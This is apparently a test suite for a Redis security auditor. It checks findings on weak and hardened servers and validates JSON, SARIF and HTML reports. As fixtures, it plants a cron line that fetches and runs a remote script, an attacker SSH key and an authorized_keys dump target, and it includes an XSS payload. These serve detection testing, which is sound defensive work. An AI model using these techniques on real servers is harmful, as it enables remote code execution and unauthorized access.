/*
 * `redoubt audit` end to end: a deliberately weak redis-server 7.0.15 must show every expected
 * finding; a hardened Redoubt (TLS only with client certificates, default user off, ACL users,
 * a renamed command) must show no high or critical one; the JSON and SARIF reports must be
 * well-formed; the HTML report must render in headless Chromium (Debian package `chromium`);
 * `--config` grades weak and hardened files; exit codes follow --fail-on. The self-audit is
 * checked through AUDIT FINDINGS / AUDIT RUN and INFO security.
 *
 * The weak server binds 127.0.0.1 only (never the network), with protected-mode no: the audit
 * reads CONFIG GET bind/protected-mode and reports what that would mean for a remote attacker.
 */

import { describe, it, before, after } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { spawn, spawnSync, execFileSync } from 'node:child_process';
import { startRedis, startRedoubt, redisServerBin, freePort, waitForPort, REDOUBT_BIN, type RunningServer } from '../support/servers';
import { makePki, opensslAvailable, type TestPki } from '../support/certs';
import { auditMain } from '../../src/audit/cli';
import { renderSarif } from '../../src/audit/report/sarif';
import { renderHtml } from '../../src/audit/report/html';
import { CHECKS, SEVERITIES } from '../../src/audit/checks/index';
import { affects } from '../../src/audit/cves';
import { parseUrl } from '../../src/audit/collect';
import type { AuditResult } from '../../src/audit/report/result';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'redoubt-audit-'));
after(() => fs.rmSync(tmp, { recursive: true, force: true }));

async function audit(args: string[]): Promise<{ code: number; out: string }> {
  let out = '';
  const code = await auditMain(args, (s) => (out += s));
  return { code, out };
}

async function auditJson(args: string[]): Promise<{ code: number; r: AuditResult }> {
  const { code, out } = await audit([...args, '--json']);
  return { code, r: JSON.parse(out) as AuditResult };
}

function ids(r: AuditResult): Set<string> {
  return new Set(r.findings.map((f) => f.id));
}

function chromium(): string | null {
  for (const b of ['chromium', 'chromium-browser', 'google-chrome']) {
    try {
      execFileSync(b, ['--version'], { stdio: 'ignore' });
      return b;
    } catch { /* next */ }
  }
  return null;
}

describe('pure parts', () => {
  it('CVE matching follows branches: fixed, unfixed (EOL) and newer than every fix', () => {
    const e = { id: 'X', product: 'redis' as const, fixed: ['6.2.16', '7.2.6', '7.4.1'], severity: 'high' as const, what: '' };
    assert.equal(affects(e, '7.2.5'), true);
    assert.equal(affects(e, '7.2.6'), false);
    assert.equal(affects(e, '7.0.15'), true); // 7.0 got no fix, 7.2 did: EOL branch
    assert.equal(affects(e, '8.0.0'), false);
    assert.equal(affects({ ...e, from: '7.0.0' }, '6.0.20'), false);
  });

  it('parses redis-cli -u URLs', () => {
    assert.deepEqual(parseUrl('redis://u:p%40ss@10.0.0.1:7000/2'), { tls: false, host: '10.0.0.1', port: 7000, user: 'u', password: 'p@ss', db: 2 });
    assert.deepEqual(parseUrl('rediss://:secret@[::1]:6380'), { tls: true, host: '::1', port: 6380, user: null, password: 'secret', db: 0 });
    assert.equal(parseUrl('http://x'), null);
  });

  it('HTML escapes attacker-controlled text', () => {
    const html = renderHtml({ tool: { name: 't', version: '1' }, generatedAt: '', target: '<script>x</script>', mode: 'live', product: 'redis', version: '7.0.15', score: 50,
      counts: { critical: 1, high: 0, medium: 0, low: 0, info: 0 },
      findings: [{ id: 'a', severity: 'critical', title: 't', evidence: '"<img src=x onerror=alert(1)>" \x01', remediation: 'r', practice: 1 }], notes: [] });
    assert.ok(!html.includes('<script>') && !html.includes('<img'));
    assert.ok(!/src=["']?http|href=["']?http/.test(html), 'no external resource');
  });
});

describe('audit of a weak redis-server 7.0.15', { skip: redisServerBin() === null ? 'redis-server is needed' : false }, () => {
  let weak: RunningServer;
  let pw: RunningServer;
  let result: AuditResult;
  let code: number;
  before(async () => {
    weak = await startRedis(['--protected-mode', 'no', '--enable-debug-command', 'yes', '--enable-protected-configs', 'yes']);
    const cli = (argv: string[]) => execFileSync('redis-cli', ['-p', String(weak.port), ...argv]);
    cli(['SET', 'backup1', '\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n']);
    cli(['SET', 'backup2', '\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@host\n\n']);
    cli(['SET', 'innocent', 'hello']);
    cli(['CONFIG', 'SET', 'dbfilename', 'authorized_keys']);
    ({ code, r: result } = await auditJson([`redis://127.0.0.1:${weak.port}`]));
    pw = await startRedis(['--requirepass', 'foobared']);
  });
  after(async () => {
    await weak?.stop();
    await pw?.stop();
  });

  it('finds every expected weakness', () => {
    const found = ids(result);
    for (const id of ['auth.unauthenticated-access', 'auth.default-nopass', 'net.protected-mode-off', 'cmd.enable-debug-command',
      'cmd.enable-protected-configs', 'version.known-cve', 'version.end-of-life', 'compromise.suspicious-values',
      'compromise.file-write-target', 'limits.output-buffer', 'tls.disabled', 'log.no-audit-trail', 'auth.no-guessing-limit', 'acl.administrators']) {
      assert.ok(found.has(id), `missing ${id}: ${[...found].join(', ')}`);
    }
    const f = (id: string) => result.findings.find((x) => x.id === id)!;
    assert.equal(f('auth.unauthenticated-access').severity, 'critical');
    assert.equal(f('auth.default-nopass').severity, 'high'); // loopback bind, protected mode off
    assert.match(f('auth.default-nopass').evidence, /protected-mode no/);
    assert.match(f('compromise.suspicious-values').evidence, /backup1/);
    assert.match(f('compromise.suspicious-values').evidence, /backup2/);
    assert.doesNotMatch(f('compromise.suspicious-values').evidence, /innocent/);
    assert.ok(result.findings.some((x) => x.title.startsWith('CVE-2025-49844')));
    assert.ok(!found.has('net.cross-protocol'), 'redis-server drops HTTP requests');
    assert.equal(result.product, 'redis');
    assert.equal(result.version, '7.0.15');
    assert.ok(result.score < 20);
    assert.equal(code, 1);
  });

  it('JSON is structurally valid', () => {
    assert.equal(typeof result.score, 'number');
    assert.equal(Object.values(result.counts).reduce((a, b) => a + b, 0), result.findings.length);
    const known = new Set(CHECKS.map((c) => c.id));
    for (const f of result.findings) {
      assert.ok(known.has(f.id), f.id);
      assert.ok((SEVERITIES as string[]).includes(f.severity));
      for (const k of ['title', 'evidence', 'remediation'] as const) assert.ok(typeof f[k] === 'string' && f[k].length > 0);
      assert.ok(f.practice >= 1 && f.practice <= 10);
    }
    assert.ok(!JSON.stringify(result).includes('foobared'));
  });

  it('SARIF 2.1.0 is structurally valid', () => {
    const s = renderSarif(result) as any;
    assert.equal(s.version, '2.1.0');
    assert.match(s.$schema, /sarif-2\.1\.0/);
    const run = s.runs[0];
    assert.equal(run.tool.driver.name, 'redoubt-audit');
    const rules = run.tool.driver.rules as { id: string }[];
    assert.equal(new Set(rules.map((r) => r.id)).size, rules.length);
    assert.equal(run.results.length, result.findings.length);
    for (const res of run.results) {
      assert.equal(rules[res.ruleIndex].id, res.ruleId);
      assert.ok(['error', 'warning', 'note'].includes(res.level));
      assert.ok(res.message.text.length > 0);
      assert.ok(res.locations.length === 1);
    }
  });

  it('the HTML report renders in headless Chromium with its summary', { skip: chromium() === null ? 'Debian package chromium is needed' : false }, async () => {
    const file = path.join(tmp, 'weak.html');
    const { code: c } = await audit([`redis://127.0.0.1:${weak.port}`, '--html', file]);
    assert.equal(c, 1);
    assert.equal(fs.statSync(file).mode & 0o777, 0o600);
    const html = fs.readFileSync(file, 'utf8');
    assert.ok(!/<script|<link|src=|@import|url\(/i.test(html), 'self-contained');
    const r = spawnSync(chromium()!, ['--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', `--user-data-dir=${path.join(tmp, 'chrome')}`, '--dump-dom', `file://${file}`], { encoding: 'utf8', timeout: 90000 });
    assert.equal(r.status, 0, r.stderr);
    const dom = r.stdout;
    assert.match(dom, /<span id="score">\d+<\/span>\/100/);
    assert.match(dom, /data-severity="critical">\d+ critical/);
    assert.match(dom, /id="score-dial"/);
    assert.match(dom, /auth\.unauthenticated-access/);
    const png = path.join(tmp, 'weak.png');
    const shot = spawnSync(chromium()!, ['--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', `--user-data-dir=${path.join(tmp, 'chrome')}`, `--screenshot=${png}`, '--window-size=1200,900', `file://${file}`], { timeout: 90000 });
    assert.equal(shot.status, 0);
    assert.ok(fs.statSync(png).size > 5000);
  });

  it('--check-weak-passwords finds foobared (and only runs when asked)', async () => {
    const url = `redis://:foobared@127.0.0.1:${pw.port}`;
    const without = await auditJson([url]);
    assert.ok(!ids(without.r).has('auth.weak-password'));
    const withIt = await auditJson([url, '--check-weak-passwords']);
    const w = withIt.r.findings.find((f) => f.id === 'auth.weak-password');
    assert.ok(w, 'weak password found');
    assert.match(w.evidence, /default accepts "foobared"/);
    assert.equal(w.severity, 'critical');
  });

  it('exit codes: --fail-on, unreachable server, bad arguments, and the redoubt audit command line', async () => {
    assert.equal((await audit([`redis://127.0.0.1:${weak.port}`, '--fail-on', 'none'])).code, 0);
    assert.equal((await audit([`redis://127.0.0.1:${await freePort()}`])).code, 2);
    assert.equal((await audit(['--fail-on', 'bogus', `redis://127.0.0.1:${weak.port}`])).code, 2);
    assert.equal((await audit([`redis://:wrong@127.0.0.1:${pw.port}`])).code, 2);
    const r = spawnSync(process.execPath, [REDOUBT_BIN, 'audit', `redis://127.0.0.1:${weak.port}`, '--sarif'], { encoding: 'utf8' });
    assert.equal(r.status, 1);
    assert.equal(JSON.parse(r.stdout).version, '2.1.0');
  });
});

function hardenedConfig(pki: TestPki, tlsPort: number): string {
  return [
    'port 0', `tls-port ${tlsPort}`, 'bind 127.0.0.1',
    `tls-cert-file ${pki.server.cert}`, `tls-key-file ${pki.server.key}`, `tls-ca-cert-file ${pki.caCert}`, 'tls-auth-clients yes',
    'timeout 300', 'client-output-buffer-limit normal 256mb 64mb 60', 'sanitize-dump-payload yes', 'save 900 1',
    'rename-command FLUSHALL ""', 'rename-command DEBUG ""',
    'user default off',
    'user admin on >Adm1n-long-random-secret-4c9f2a ~* &* +@all',
    'user app on >App-long-random-secret-77d1e0 ~app:* &app:* -@all +@read +@write -@dangerous',
    '',
  ].join('\n');
}

describe('audit of a hardened Redoubt', { skip: !opensslAvailable() ? 'openssl is needed' : false }, () => {
  let pki: TestPki;
  let tlsPort: number;
  let conf: string;
  let proc: ReturnType<typeof spawn>;
  before(async () => {
    pki = makePki();
    tlsPort = await freePort();
    conf = path.join(tmp, 'hardened.conf');
    fs.writeFileSync(conf, hardenedConfig(pki, tlsPort));
    const dir = fs.mkdtempSync(path.join(tmp, 'data-'));
    proc = spawn(process.execPath, [REDOUBT_BIN, conf], { cwd: dir, stdio: 'ignore' });
    await waitForPort(tlsPort);
  });
  after(async () => {
    if (proc && proc.exitCode === null) {
      const gone = new Promise((r) => proc.once('exit', r));
      proc.kill('SIGTERM');
      await gone;
    }
    pki?.cleanup();
  });

  const tlsArgs = () => ['--cacert', pki.caCert, '--cert', pki.client('admin').cert, '--key', pki.client('admin').key];

  it('shows no high or critical finding over rediss:// with a client certificate', async () => {
    const { code, r } = await auditJson([`rediss://admin:Adm1n-long-random-secret-4c9f2a@127.0.0.1:${tlsPort}`, ...tlsArgs()]);
    const bad = r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical');
    assert.deepEqual(bad, []);
    assert.equal(code, 0);
    assert.equal(r.product, 'redoubt');
    const found = ids(r);
    assert.ok(!found.has('auth.unauthenticated-access') && !found.has('net.cross-protocol') && !found.has('tls.client-certificates'));
    assert.ok(found.has('cmd.renamed'), 'rename-command is reported (low)');
    assert.ok(r.score >= 85, `score ${r.score}`);
  });

  it('AUDIT FINDINGS / RUN / SCORE and INFO security answer from the self-audit', async () => {
    const cliArgs = ['--tls', '--cacert', pki.caCert, '--cert', pki.client('admin').cert, '--key', pki.client('admin').key, '-p', String(tlsPort), '--user', 'admin', '--pass', 'Adm1n-long-random-secret-4c9f2a', '--no-auth-warning'];
    const cli = (...argv: string[]) => execFileSync('redis-cli', [...cliArgs, ...argv], { encoding: 'utf8' });
    assert.equal(cli('AUDIT', 'FINDINGS', 'high').trim(), '');
    assert.match(cli('AUDIT', 'FINDINGS'), /cmd\.renamed/);
    assert.match(cli('INFO', 'security'), /audit_score:\d+[\s\S]*audit_findings_critical:0[\s\S]*audit_findings_high:0/);
    assert.doesNotMatch(cli('INFO'), /# Security/);
    // an ACL change shows up after AUDIT RUN
    cli('ACL', 'SETUSER', 'lazy', 'on', 'nopass', '+@all', '~*');
    assert.match(cli('AUDIT', 'RUN'), /auth\.user-nopass/);
    assert.match(cli('AUDIT', 'FINDINGS', 'high'), /lazy/);
    assert.match(cli('AUDIT', 'FINDINGS', 'bogus'), /severity must be/);
    cli('ACL', 'DELUSER', 'lazy');
    // the app user may not read findings
    const app = spawnSync('redis-cli', [...cliArgs.slice(0, 9), '--user', 'app', '--pass', 'App-long-random-secret-77d1e0', '--no-auth-warning', 'AUDIT', 'FINDINGS'], { encoding: 'utf8' });
    assert.match(app.stdout, /NOPERM/);
  });

  it('--config: the hardened file passes, a weak file fails', async () => {
    const good = await auditJson(['--config', conf]);
    assert.deepEqual(good.r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical'), []);
    assert.equal(good.code, 0);
    assert.equal((await audit(['--config', conf, '--fail-on', 'low'])).code, 1);
    const weakConf = path.join(tmp, 'weak.conf');
    fs.writeFileSync(weakConf, 'bind * -::*\nprotected-mode no\nallow-unauthenticated-network yes\nenable-debug-command yes\nenable-module-command local\nunixsocket /tmp/r.sock\nunixsocketperm 777\nuser bob on nopass ~* +@all\n');
    const weak = await auditJson(['--config', weakConf]);
    const found = ids(weak.r);
    for (const id of ['auth.default-nopass', 'net.bind-all-interfaces', 'net.protected-mode-off', 'cmd.enable-debug-command', 'cmd.enable-module-command', 'net.unixsocket-permissions', 'auth.user-nopass', 'acl.administrators']) {
      assert.ok(found.has(id), `missing ${id}`);
    }
    assert.equal(weak.r.findings.find((f) => f.id === 'auth.default-nopass')!.severity, 'critical');
    assert.equal(weak.code, 1);
    fs.writeFileSync(path.join(tmp, 'broken.conf'), 'no-such-directive 1\n');
    assert.equal((await audit(['--config', path.join(tmp, 'broken.conf')])).code, 2);
  });
});

describe('self-audit at start-up', () => {
  let s: RunningServer;
  before(async () => { s = await startRedoubt(['--enable-debug-command', 'yes']); });
  after(async () => { await s?.stop(); });

  it('logs high findings at warning level and CONFIG SET re-runs the checks', async () => {
    // the port opens before the start-up audit runs: wait for the end of start-up
    for (let i = 0; i < 100 && !s.output().includes('Ready to accept connections'); i++) await new Promise((r) => setTimeout(r, 50));
    assert.match(s.output(), /# Security audit \(high\) \[cmd\.enable-debug-command\]/);
    const cli = (...argv: string[]) => execFileSync('redis-cli', ['-p', String(s.port), ...argv], { encoding: 'utf8' });
    const before = Number(cli('AUDIT', 'SCORE').trim());
    cli('CONFIG', 'SET', 'protected-mode', 'no');
    await new Promise((r) => setTimeout(r, 100));
    assert.ok(Number(cli('AUDIT', 'SCORE').trim()) < before);
    assert.match(s.output(), /\[net\.protected-mode-off\]/);
  });
});
